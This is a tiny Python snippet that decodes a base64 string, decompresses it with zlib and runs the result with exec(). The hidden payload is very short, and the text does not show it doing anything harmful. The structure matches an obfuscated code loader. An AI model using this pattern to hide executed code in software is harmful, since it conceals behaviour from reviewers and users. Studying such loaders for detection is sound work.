import base64
import zlib

blob = "eJzLzE3NLy1RSM7PS0lNBgAp8AWw"
code = zlib.decompress(base64.b64decode(blob))
exec(code)
